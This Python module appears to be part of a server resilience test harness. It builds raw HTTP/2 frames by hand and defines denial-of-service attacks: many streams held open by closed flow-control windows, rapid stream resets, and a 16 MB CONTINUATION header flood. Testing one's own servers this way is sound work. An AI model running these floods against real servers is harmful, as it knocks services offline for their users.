"""Attacks with HTTP/2, without TLS. The frames are written by hand (RFC 9113)."""
import asyncio, struct
from . import attack
from .connections import many

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def text(value):
    """A string of HPACK, without Huffman. At most 126 bytes."""
    return bytes([len(value)]) + value


def head(path):
    """The header block of a GET (RFC 7541): `:method`, `:scheme`, `:path`, `:authority`."""
    return b"\x82\x86" + b"\x04" + text(path) + b"\x01" + text(b"localhost")


def greeting(window):
    """The preface, and settings with the window of each stream."""
    return PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, window)) + frame(SETTINGS, 1, 0)


async def flood(target, n, window, frames, seconds):
    """Sends frames on a connection, and takes whatever comes back. Says how the server ended it."""
    try:
        reader, writer = await target.open(n)
        writer.write(greeting(window))

        async def read():
            try:
                while await reader.read(1 << 16):
                    pass
            except OSError:
                pass

        reading = asyncio.create_task(read())
        for part in frames:
            if reading.done():
                break
            writer.write(part)
            await writer.drain()
        done, _ = await asyncio.wait([reading], timeout=seconds)
        target.replies["closed" if done else "open"] += 1
        reading.cancel()
        writer.close()
    except OSError:
        target.replies["closed"] += 1


# Requests of a long file on one connection.
GETS = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, head(b"/docs/swagger-ui-bundle.js")) for n in range(60))


@attack("40 connections with 60 streams each whose window is closed", memory=112, log=512)
async def http2_closed_windows(target):
    await many(40, lambda n: flood(target, n, 0, [GETS], 6))


@attack("100 connections of one address with 60 streams each whose window is closed", memory=64, log=512)
async def http2_closed_windows_of_one_address(target):
    await many(100, lambda n: flood(target, 1, 0, [GETS], 6))


@attack("20 connections with 5,000 streams each that are reset at once", memory=32)
async def http2_resets(target):
    def pair(n):
        stream = 2 * n + 1
        get = frame(HEADERS, END_STREAM | END_HEADERS, stream, head(b"/login"))
        return get + frame(RESET, 0, stream, struct.pack("!I", 8))

    await many(20, lambda n: flood(target, n, 65535, [b"".join(pair(k) for k in range(at, at + 50)) for at in range(0, 5000, 50)], 3))


@attack("20 connections with a head of 16 MB in CONTINUATION frames", memory=32)
async def http2_continuation(target):
    field = b"\x00" + text(b"x") + text(b"y" * 100)
    block = field * 150
    begin = frame(HEADERS, END_STREAM, 1, head(b"/login"))
    await many(20, lambda n: flood(target, n, 65535, [begin] + [frame(CONTINUATION, 0, 1, block)] * 1000, 3))
